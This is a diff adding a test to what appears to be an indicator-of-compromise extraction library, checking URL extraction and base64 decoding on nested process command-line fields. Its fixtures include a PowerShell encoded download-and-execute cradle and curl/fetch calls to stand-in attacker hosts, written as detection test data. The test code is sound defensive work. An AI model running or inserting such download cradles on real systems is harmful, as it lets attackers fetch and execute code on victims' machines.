@@ -453,3 +453,23 @@ test("a domain glued to a letter of another script or to _ is no mention of the 
   const spaceless: [string, string][] = [["\u8bbf\u95eeevil.com\u7f51\u7ad9", "evil.com"], ["\u30b5\u30a4\u30c8evil.com\u306b\u30a2\u30af\u30bb\u30b9", "evil.com"], ["\u0e44\u0e1b\u0e17\u0e35\u0e48evil.com", "evil.com"], ["evil.com\uc5d0\uc11c", "evil.com"]];
   for (const [text, domain] of spaceless) assert.deepEqual(dns(text), [domain], text);
 });
+
+test("a dotted name reaches into a struct column (nested ECS JSON: process.command_line), for extract and unpackDf; a missing field still names the columns", () => {
+  // PowerShell's -EncodedCommand: UTF-16LE base64 of a download cradle.
+  const encoded = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", "utf16le").toString("base64");
+  const df = pl.DataFrame([
+    pl.Series("host", [{ name: "ws-7" }, { name: "ws-8" }]),
+    pl.Series("process", [
+      { pid: 4100, command_line: `powershell.exe -enc ${encoded}`, parent: { command_line: "explorer.exe" } },
+      { pid: 4120, command_line: "curl http://evil.example.net/x", parent: { command_line: "cmd.exe /c fetch https://203.0.113.9/" } },
+    ]),
+  ]);
+  assert.equal(df.getColumn("process").dtype.variant, "Struct");
+  const iocs = new IoCExtract().extract(df, { columns: ["process.command_line", "process.parent.command_line"], iocTypes: ["url"], urlHostAsDns: false });
+  assert.deepEqual(iocs.getColumn("Observable").toArray().sort(), ["http://evil.example.net/x", "https://203.0.113.9/"]);
+  const decoded = base64.unpackDf(df, { column: "process.command_line" });
+  assert.equal(decoded.height, 1);
+  assert.match(String(decoded.getColumn("decoded_string").toArray()[0]), /DownloadString\('http:\/\/198\.51\.100\.7\/a\.ps1'\)/);
+  assert.throws(() => new IoCExtract().extract(df, { columns: ["process.cmdline"] }), (e: Error) => e instanceof IocExtractError && /"process\.cmdline" is not in the data/.test(e.message));
+  assert.throws(() => base64.unpackDf(df, { column: "host.ip" }), (e: Error & { code?: string }) => e.code === "transform/base64-column-missing");
+});
